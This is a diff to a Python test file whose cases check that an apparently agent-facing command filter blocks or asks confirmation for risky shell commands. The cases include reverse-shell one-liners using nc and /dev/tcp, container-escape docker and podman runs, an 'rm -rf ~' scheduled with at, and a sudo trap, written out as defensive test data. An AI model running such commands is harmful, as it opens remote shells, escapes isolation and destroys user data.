@@ -128,6 +128,22 @@ RULE_CASES: tuple[RuleCase, ...] = (
     RuleCase("power-shutdown", "shutdown -h now", "block", "shell.power"),
     RuleCase("power-systemctl", "systemctl reboot", "block", "shell.power"),
     RuleCase("kill-all", "kill -9 -1", "block", "shell.kill-all"),
+    RuleCase(
+        "container-root-mount", "docker run -v /:/host alpine sh", "block", "shell.container-escape"
+    ),
+    RuleCase(
+        "container-privileged", "podman run --privileged alpine", "block", "shell.container-escape"
+    ),
+    RuleCase(
+        "container-socket",
+        "docker run -v /var/run/docker.sock:/s x",
+        "block",
+        "shell.container-escape",
+    ),
+    RuleCase("at-job", "echo 'rm -rf ~' | at now", "block", "files.persistence"),
+    RuleCase("trap-body", "trap 'sudo id' EXIT", "block", "shell.privilege"),
+    RuleCase("glab-mr-create", "glab mr create --fill", "confirm", "gh.write"),
+    RuleCase("npm-version", "npm version patch", "confirm", "git.write"),
     RuleCase("reverse-nc", "nc -e /bin/sh x 4444", "block", "shell.reverse-shell"),
     RuleCase(
         "reverse-dev-tcp", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "block", "shell.reverse-shell"
